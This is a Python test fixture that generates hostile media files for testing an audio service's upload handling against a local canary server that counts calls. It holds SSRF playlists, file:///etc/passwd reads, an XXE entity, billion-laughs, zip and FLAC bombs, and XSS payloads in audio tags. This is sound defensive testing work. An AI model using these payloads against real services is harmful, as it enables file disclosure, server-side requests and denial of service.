"""Files that mean harm, for everything that takes files from outside: uploads and downloads.

    with Canary() as canary:
        for name, data in hostile_files(canary.address).items():
            ...                      # refused with a sentence, or kept if name in MAY_PLAY
        assert canary.calls == 0

Names tell what each is; some of them end as a trick would.
"""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile
from collections.abc import Callable
from types import TracebackType
from typing import Self

import numpy as np

from tests.audio.sounds import encoded, tone

MAY_PLAY = frozenset(
    {
        "cut_half.mp3", "cut_half.wav", "cut_half.webm", "cut_half.ogg", "cut_half.flac",
        "m4a_named.mp3", "html_then_mp3.mp3", "huge_id3.mp3", "not_numbers.wav",
        "riff_too_long.wav", "id3_claims_256_mb.mp3", "picture_is_html.flac", "mp3_then_zip.mp3",
        "wav_then_playlist.wav", "hostile_tags.flac", "cover_names_address.mp3",
    }
)  # fmt: skip
"""Files that hold real sound beside the trick: these may be read, all others must be refused."""


class Canary:
    """A server that nobody may call. It listens on a port of its own and counts."""

    def __init__(self) -> None:
        self.calls = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._listen, daemon=True)

    def _listen(self) -> None:
        while True:
            caller, _ = self._socket.accept()
            with caller:
                if caller.recv(16) == b"stop":
                    return
                self.calls += 1

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        self.settle()
        self._socket.close()

    def settle(self) -> None:
        """Waits until every call that was made so far is counted; nothing is counted after."""
        with socket.create_connection(self._socket.getsockname()) as last:
            last.sendall(b"stop")
            self._thread.join(timeout=10)


def hostile_files(canary: str) -> dict[str, bytes]:
    """Name → bytes. `canary` is the host and port of a server that must not be called."""
    return {
        **_nothing(),
        **_naming_addresses(f"http://{canary}", canary),
        **_cut_off(),
        **_absurd_headers(),
        **_bombs(),
        **_disguised(canary),
    }


def _nothing() -> dict[str, bytes]:
    return {
        "empty.wav": b"",
        "one_byte.mp3": b"\xff",
        "zeros.wav": bytes(100_000),
        "random.mp3": np.random.default_rng(3).bytes(200_000),
        "only_ones.mp3": b"\xff" * 100_000,
        "text.mp3": b"This is not a sound. " * 500,
    }


def _naming_addresses(url: str, canary: str) -> dict[str, bytes]:
    host, port = canary.split(":")
    hls = f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}/a.ts\n#EXT-X-ENDLIST\n"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/a.png"/></svg>'
    sdp = f"v=0\no=- 0 0 IN IP4 {host}\ns=x\nc=IN IP4 {host}\nt=0 0\nm=audio {port} RTP/AVP 0\n"
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
        f"<Period><AdaptationSet><Representation><BaseURL>{url}/a.mp4</BaseURL>"
        "</Representation></AdaptationSet></Period></MPD>"
    )
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{url}/e">]><svg>&b;</svg>'
    texts = {
        "playlist.m3u8": hls,
        "playlist_named.mp3": hls,
        "playlist_local_file.m3u8": hls.replace(f"{url}/a.ts", "file:///etc/passwd"),
        "playlist_concat.m3u8": hls.replace(f"{url}/a.ts", f"concat:{url}/a|file:///etc/hosts"),
        "list.m3u": f"#EXTM3U\n{url}/a.mp3\n",
        "list.pls": f"[playlist]\nFile1={url}/a.mp3\nNumberOfEntries=1\n",
        "list.asx": f'<asx version="3.0"><entry><ref href="{url}/a.wma"/></entry></asx>',
        "script.ffconcat": f"ffconcat version 1.0\nfile '{url}/a.mp3'\n",
        "script_named.wav": f"ffconcat version 1.0\nfile {url}/a.mp3\n",
        "session.sdp": sdp,
        "session_named.mp3": sdp,
        "image.svg": svg,
        "entity.svg": entity,
        "manifest.mpd": dash,
        "meta.txt": f";FFMETADATA1\ntitle={url}\n",
        "stream.url": f"[InternetShortcut]\nURL={url}/a.mp3\n",
        "rtsp.txt": f"rtsp://{canary}/live",
    }
    files = {name: text.encode() for name, text in texts.items()}
    # A playlist hidden in the subtitle of an AVI, as was used against converters.
    packed = b"GAB2\x00\x02\x00" + bytes(10) + hls.encode()
    avi = b"AVI LIST" + struct.pack("<I", len(packed) + 4) + b"movi" + packed
    files["subtitle_playlist.avi"] = b"RIFF" + struct.pack("<I", len(avi)) + avi
    return files


def _cut_off() -> dict[str, bytes]:
    wave = tone(12)
    files = {}
    for kind in ("wav", "mp3", "m4a", "ogg", "webm", "flac"):
        data = encoded(wave, kind)
        files[f"cut_half.{kind}"] = data[: len(data) // 2]
        files[f"cut_at_head.{kind}"] = data[:20]
    return files


def wav(
    *,
    rate: int = 24_000,
    channels: int = 1,
    bits: int = 16,
    form: int = 1,
    data: bytes = b"\x01\x10" * 24_000,
    align: int | None = None,
    riff_size: int | None = None,
    data_size: int | None = None,
) -> bytes:
    """A WAV whose header says whatever one likes."""
    align = channels * bits // 8 if align is None else align
    head = struct.pack("<HHIIHH", form, channels, rate, rate * align % 2**32, align % 2**16, bits)
    body = b"WAVEfmt " + struct.pack("<I", len(head)) + head
    body += b"data" + struct.pack("<I", len(data) if data_size is None else data_size) + data
    return b"RIFF" + struct.pack("<I", len(body) if riff_size is None else riff_size) + body


def _absurd_headers() -> dict[str, bytes]:
    wild = np.array([np.nan, np.inf, -np.inf, 1e30, -1e30, 0.5] * 4000, "<f4").tobytes()
    return {
        "one_hertz.wav": wav(rate=1),
        "zero_hertz.wav": wav(rate=0),
        "four_gigahertz.wav": wav(rate=2**32 - 1),
        "no_channels.wav": wav(channels=0),
        "channels_255.wav": wav(channels=255),
        "channels_65535.wav": wav(channels=65535, align=2),
        "no_bits.wav": wav(bits=0),
        "bits_65535.wav": wav(bits=65535, align=2),
        "no_data.wav": wav(data=b""),
        "format_unknown.wav": wav(form=0xBEEF),
        "format_dts.wav": wav(form=0x2001),
        "riff_too_long.wav": wav(riff_size=2**31, data_size=2**31),
        "not_numbers.wav": wav(form=3, bits=32, data=wild),
        "rf64_endless.wav": b"RF64\xff\xff\xff\xffWAVEds64" + b"\xff" * 64,
        "flac_block_past_end.flac": b"fLaC\x84\xff\xff\xff" + bytes(50),
        "atom_in_itself.m4a": b"\x00\x00\x00\x14ftypM4A " + bytes(8) + b"\0\0\0\x08moov" * 5000,
        "atom_endless.m4a": b"\x00\x00\x00\x01ftyp" + b"\xff" * 8 + bytes(1000),
        "nested_unknown_size.webm": b"\x1a\x45\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xff" * 2000,
        "ogg_pages.ogg": (b"OggS\x00\x02" + bytes(20) + b"\xff" + b"\xff" * 255) * 300,
    }  # fmt: skip


def _bombs() -> dict[str, bytes]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.wav", bytes(20_000_000))
    return {
        "six_hours_of_silence.flac": silent_flac(hours=6),
        "zip_bomb.wav": packed.getvalue(),
        "laughs.svg": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
        + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a;" * 10) for n in range(9))
        + b"]><l>&a8;</l>",
    }


def _disguised(canary: str) -> dict[str, bytes]:
    sound = encoded(tone(6), "mp3")
    html = f"<html><script src='http://{canary}/x.js'></script><body>hello</body></html>".encode()
    tag = b"ID3\x03\x00\x00"
    title = f"http://{canary}/'\"><script>alert(1)</script>\x00\x1b[2J".encode()
    link = f"-->\x00\x03\x00http://{canary}/cover.png".encode()
    picture = b"APIC" + struct.pack(">IH", len(link) + 1, 0) + b"\x00" + link
    cover = tag + _synchsafe(len(picture)) + picture
    return {
        "m4a_named.mp3": encoded(tone(6), "m4a"),
        "html_then_mp3.mp3": html + sound,
        "mp3_then_zip.mp3": sound + b"PK\x03\x04" + bytes(500),
        "wav_then_playlist.wav": wav() + f"#EXTM3U\nhttp://{canary}/a.ts\n".encode(),
        "huge_id3.mp3": tag + _synchsafe(8_000_000) + bytes(8_000_000) + sound,
        "id3_claims_256_mb.mp3": tag + _synchsafe(2**28 - 1) + sound,
        "cover_names_address.mp3": cover + sound,
        "hostile_tags.flac": _flac_with_block(4, _comment(b"TITLE=" + title)),
        "picture_is_html.flac": _flac_with_block(6, struct.pack(">II", 3, 9) + b"text/html" + html),
        "html.mp3": html,
        "page.html": b"<!doctype html>" + html,
        "program.wav": b"\x7fELF\x02\x01\x01" + bytes(4000),
        "script.mp3": b"#!/bin/sh\nexit 1\n",
        "paper.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(http://"
        + canary.encode()
        + b")>>>>endobj\n",
        "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(2000),
        "melody.mid": b"MThd\x00\x00\x00\x06\x00\x00\x00\x01\x00\x60MTrk\x00\x00\x00\x00",
    }  # fmt: skip


def _synchsafe(size: int) -> bytes:
    return bytes(size >> 7 * shift & 0x7F for shift in (3, 2, 1, 0))


def _comment(text: bytes) -> bytes:
    return struct.pack("<I", 1) + b"x" + struct.pack("<II", 1, len(text)) + text


def _flac_with_block(kind: int, block: bytes) -> bytes:
    """A sound FLAC with one more metadata block right after the first."""
    data = encoded(tone(6), "flac")
    return data[:42] + bytes([kind]) + len(block).to_bytes(3, "big") + block + data[42:]


def silent_flac(*, hours: float, rate: int = 8_000) -> bytes:
    """Hours of silence in a few kilobytes: each FLAC frame says "65,535 times zero"."""
    block = 65_535
    frames = int(hours * 3600 * rate / block)
    total = frames * block
    info = struct.pack(">HH", block, block) + bytes(6)
    info += (rate << 44 | 15 << 36 | total).to_bytes(8, "big") + bytes(16)
    out = [b"fLaC\x80" + len(info).to_bytes(3, "big") + info]
    for number in range(frames):
        head = b"\xff\xf8\x74\x08" + chr(number).encode() + struct.pack(">H", block - 1)
        frame = head + bytes([_crc8(head)]) + bytes(3)
        out.append(frame + struct.pack(">H", _crc16(frame)))
    return b"".join(out)


def _crc(bits: int, polynomial: int) -> Callable[[bytes], int]:
    top, mask = 1 << bits - 1, (1 << bits) - 1

    def crc(data: bytes) -> int:
        value = 0
        for byte in data:
            value ^= byte << bits - 8
            for _ in range(8):
                value = (value << 1 ^ polynomial if value & top else value << 1) & mask
        return value

    return crc


_crc8 = _crc(8, 0x07)
_crc16 = _crc(16, 0x8005)
